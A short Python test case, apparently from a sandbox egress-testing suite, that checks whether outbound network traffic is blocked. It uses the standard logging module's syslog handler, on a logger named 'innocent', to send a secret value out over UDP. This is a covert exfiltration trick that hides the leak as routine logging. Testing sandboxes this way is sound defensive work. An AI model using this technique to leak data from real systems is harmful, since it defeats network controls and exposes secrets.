# class: network
# rule: outbound_connectivity
# success: the standard logging module sends a datagram out
# proof: udp
import logging
import logging.handlers

from attack import SECRET, UDP, attempt


@attempt
def send():
    logging.raiseExceptions = True
    failed = []
    handler = logging.handlers.SysLogHandler(address=UDP)
    handler.handleError = failed.append
    logger = logging.getLogger("innocent")
    logger.addHandler(handler)
    logger.error(SECRET)
    return not failed
